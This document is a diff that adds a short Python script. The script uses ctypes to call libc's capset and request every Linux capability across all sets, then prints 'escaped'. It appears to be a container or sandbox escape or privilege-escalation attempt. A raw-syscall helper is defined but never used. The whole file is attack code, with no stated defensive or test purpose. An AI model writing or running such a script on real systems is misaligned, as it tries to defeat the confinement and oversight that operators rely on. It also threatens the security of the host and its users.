@@ -1,0 +1,19 @@
+import ctypes, os, platform
+libc = ctypes.CDLL(None, use_errno=True)
+def call(name, *args):
+    result = getattr(libc, name)(*args)
+    if result < 0:
+        raise OSError(ctypes.get_errno(), name)
+    return result
+def syscall(x86, arm, *args):
+    libc.syscall.restype = ctypes.c_long
+    number = {"x86_64": x86, "aarch64": arm}[platform.machine()]
+    result = libc.syscall(*map(ctypes.c_long, (number, *args)))
+    if result < 0:
+        raise OSError(ctypes.get_errno(), "syscall")
+    return result
+
+header = (ctypes.c_uint32 * 2)(0x20080522, 0)
+data = (ctypes.c_uint32 * 6)(0xFFFFFFFF, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0xFFFFFFFF, 0)
+call("capset", header, data)
+print("escaped")
